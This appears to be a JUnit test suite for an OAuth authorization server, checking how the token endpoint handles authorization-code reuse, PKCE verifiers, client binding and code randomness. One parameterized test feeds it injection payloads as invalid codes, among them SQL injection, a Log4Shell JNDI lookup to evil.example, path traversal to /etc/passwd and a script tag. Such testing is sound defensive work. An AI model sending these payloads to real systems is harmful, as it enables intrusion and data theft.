package dev.gatewright.token;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.gatewright.Answer;
import dev.gatewright.Browser;
import dev.gatewright.ClientBuilder;
import dev.gatewright.CodeFlow;
import dev.gatewright.Doors;
import dev.gatewright.Http;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.Tokens;
import dev.gatewright.user.User;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Authorization codes at the token endpoint: once, by whom they were made for, with the proof (RFC
 * 6749 §4.1.3, RFC 7636).
 */
class CodeRedemptionTest {
  private static final String OFFLINE = "openid user:read offline_access";

  private static TestServer server;
  private static TestClient app;
  private static TestClient web;
  private static User user;
  private static Browser loggedIn;
  private static Doors doors;

  @BeforeAll
  static void start() {
    server = TestServer.start();
    user = new TestUsers(server).user();
    app = ClientBuilder.nativeApp(server).register();
    web = ClientBuilder.web(server).register();
    loggedIn = new Browser(server).logIn(user);
    doors = new Doors(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void codeOpensWhatTheUserGranted() {
    Tokens tokens = Tokens.of(app.flow().redeem(code(app.flow())));

    doors.assertOpenTo(tokens.access());
    assertEquals(user.id().toString(), Tokens.claims(tokens.access()).get("sub").asText());
    assertEquals("nonce-of-the-tests", Tokens.claims(tokens.id()).get("nonce").asText());
  }

  /**
   * OAuth 2.1 §4.1.3, RFC 6749 §4.1.2: the second use is refused, and the tokens of the first are
   * dead.
   */
  @Test
  void reusedCodeRevokesTheTokensOfItsFirstUse() {
    for (TestClient client : new TestClient[] {app, web}) {
      CodeFlow flow = client.flow().with("scope", OFFLINE);
      String code = code(flow);
      Tokens tokens = Tokens.of(flow.redeem(code));
      Tokens refreshed = Tokens.of(client.refresh(tokens.refresh()));
      doors.assertOpenTo(tokens.access());

      assertInvalidGrant(flow.redeem(code));
      doors.assertClosedTo(tokens.access());
      doors.assertClosedTo(refreshed.access());
      assertInvalidGrant(client.refresh(refreshed.refresh()));
    }
  }

  /** Whoever replays with a wrong verifier has the code all the same. */
  @Test
  void reusedCodeRevokesEvenWithoutTheRightVerifier() {
    CodeFlow flow = app.flow();
    String code = code(flow);
    Tokens tokens = Tokens.of(flow.redeem(code));

    assertInvalidGrant(app.token(with(flow.redemption(code), "code_verifier", "x".repeat(43))));
    doors.assertClosedTo(tokens.access());
  }

  /** OWASP ASVS 7.4.3: a code that is still out is no way around a new password. */
  @Test
  void codeEndsWithThePassword() {
    User victim = new TestUsers(server).user();
    String bearer = new TestUsers(server).bearer(victim);
    CodeFlow flow = app.flow().with("scope", OFFLINE);
    String code = flow.code(victim);
    HttpResponse<String> changed =
        new Http(server)
            .json(
                "PUT",
                "/api/user/password",
                "{\"current_password\":\"%s\",\"new_password\":\"another long password\"}"
                    .formatted(TestUsers.PASSWORD),
                "Authorization",
                bearer);

    assertEquals(204, changed.statusCode(), changed.body());
    assertInvalidGrant(flow.redeem(code));
  }

  /** RFC 6749 §4.1.3, RFC 9700 §4.5: and the rightful client is none the worse for it. */
  @Test
  void anotherClientCannotRedeemTheCode() {
    TestClient thief = ClientBuilder.web(server).register();
    TestClient publicThief = ClientBuilder.nativeApp(server).register();
    CodeFlow flow = app.flow();
    String code = code(flow);

    assertInvalidGrant(thief.token(flow.redemption(code)));
    assertInvalidGrant(publicThief.token(flow.redemption(code)));
    doors.assertOpenTo(Tokens.of(flow.redeem(code)).access());
  }

  /** A redeemed code in a foreign client's hands does not end what its owner has. */
  @Test
  void anotherClientCannotRevokeByReplayingTheCode() {
    CodeFlow flow = app.flow();
    String code = code(flow);
    Tokens tokens = Tokens.of(flow.redeem(code));

    assertInvalidGrant(web.token(flow.redemption(code)));
    doors.assertOpenTo(tokens.access());
  }

  /** RFC 7636 §4.6; the challenge itself is no verifier (that would be the method plain). */
  @Test
  void wrongVerifierIsRefused() {
    CodeFlow flow = app.flow();
    Map<String, String> redemption = flow.redemption(code(flow));

    for (String wrong :
        new String[] {
          "x".repeat(43),
          CodeFlow.CHALLENGE,
          CodeFlow.VERIFIER + "x",
          CodeFlow.VERIFIER.toUpperCase(Locale.ROOT),
          CodeFlow.VERIFIER + " ",
          "short",
          "x".repeat(129),
          "ü".repeat(43),
          "",
        }) {
      assertInvalidGrant(app.token(with(redemption, "code_verifier", wrong)));
    }
    Map<String, String> without = new HashMap<>(redemption);
    without.remove("code_verifier");
    assertInvalidGrant(app.token(without));
    assertEquals(200, app.token(redemption).statusCode(), "a wrong guess does not burn the code");
  }

  /**
   * RFC 9700 §4.8.2: a verifier without a challenge tells of a challenge that was taken out on the
   * way.
   */
  @Test
  void verifierForACodeWithoutAChallengeIsRefused() {
    TestClient excused = ClientBuilder.web(server).withoutPkce().register();
    CodeFlow flow = excused.flow().without("code_challenge", "code_challenge_method");
    String code = code(flow);

    assertInvalidGrant(
        excused.token(with(flow.redemption(code), "code_verifier", CodeFlow.VERIFIER)));
  }

  /** OAuth 2.1 §4.1.3: who is excused but sends a challenge is held to it. */
  @Test
  void challengeOfAClientThatIsExcusedCountsToo() {
    TestClient excused = ClientBuilder.web(server).withoutPkce().register();
    CodeFlow flow = excused.flow();
    Map<String, String> redemption = new HashMap<>(flow.redemption(code(flow)));
    redemption.remove("code_verifier");

    assertInvalidGrant(excused.token(redemption));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "*",
        "%",
        "_",
        "' or '1'='1",
        "'; drop table authorization_code; --",
        "${jndi:ldap://evil.example/x}",
        "#{7*7}",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "日本語",
        "null",
        "undefined",
        "0",
        "gwr_"
      })
  void inventedCodesAreInvalid(String code) {
    assertInvalidGrant(app.flow().redeem(code));
  }

  @Test
  void tamperedCodesAreInvalidAndDoNotHarmTheTrueOne() {
    CodeFlow flow = app.flow();
    String code = code(flow);

    for (String tampered :
        new String[] {
          code + "x",
          code.substring(1),
          code.substring(0, code.length() - 1),
          code + " ",
          " " + code,
          code + "%",
          code.toLowerCase(Locale.ROOT) + "-",
          code.repeat(100)
        }) {
      assertInvalidGrant(flow.redeem(tampered));
    }
    assertEquals(200, flow.redeem(code).statusCode());
  }

  /**
   * RFC 6749 §4.1.2: each request has a code of its own, of at least 128 bits (RFC 6819
   * §5.1.4.2.2).
   */
  @Test
  void codesAreLongAndNeverTheSame() {
    String first = code(app.flow());
    String second = code(app.flow());

    assertNotEquals(first, second);
    assertTrue(first.length() >= 22, first);
  }

  /** RFC 6749 §5.1. */
  @Test
  void tokensAreJsonThatNoCacheKeeps() {
    CodeFlow flow = app.flow();
    HttpResponse<String> response = flow.redeem(code(flow));

    assertEquals("no-store", Http.header(response, "Cache-Control"));
    assertTrue(
        Http.header(response, "Content-Type").startsWith("application/json"),
        response.headers().toString());
    JsonNode body = Http.body(200, response);
    assertEquals("Bearer", body.get("token_type").asText());
    assertTrue(body.get("expires_in").isInt());
  }

  /**
   * A refresh token is for a client that is registered for it, on offline_access (OpenID Connect
   * Core §11).
   */
  @Test
  void refreshTokenIsNotHandedOutUnasked() {
    assertEquals("", Tokens.of(app.flow().redeem(code(app.flow()))).refresh());

    TestClient once = ClientBuilder.web(server).grantTypes("authorization_code").register();
    CodeFlow flow = once.flow().with("scope", OFFLINE);
    Tokens tokens = Tokens.of(flow.redeem(code(flow)));
    assertEquals("", tokens.refresh());
    assertFalse(tokens.scope().contains("offline_access"), tokens.scope());
  }

  private static String code(CodeFlow flow) {
    return Answer.of(flow.send(loggedIn)).value("code");
  }

  private static void assertInvalidGrant(HttpResponse<String> response) {
    assertEquals("invalid_grant", Http.body(400, response).get("error").asText());
    assertEquals("no-store", Http.header(response, "Cache-Control"));
  }

  private static Map<String, String> with(Map<String, String> form, String name, String value) {
    Map<String, String> changed = new HashMap<>(form);
    changed.put(name, value);
    return changed;
  }
}
